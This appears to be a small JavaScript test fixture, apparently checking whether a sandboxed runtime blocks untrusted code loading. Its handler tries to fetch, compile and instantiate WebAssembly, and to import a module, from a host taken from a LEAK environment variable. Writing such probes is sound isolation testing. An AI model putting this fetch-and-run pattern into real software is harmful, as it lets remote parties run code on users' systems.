import { attempts, hostile, importing, scope } from './attempts.mjs';
const streaming = hostile?.streaming ?? WebAssembly;
const LEAK = process.env.LEAK;
export const handler = () => attempts({
  compile: async () => streaming.compileStreaming(await scope.fetch(`${LEAK}/compile`)),
  instantiate: async () => streaming.instantiateStreaming(await scope.fetch(`${LEAK}/instantiate`), {}),
  module: () => importing(`${LEAK}/module.wasm`),
});
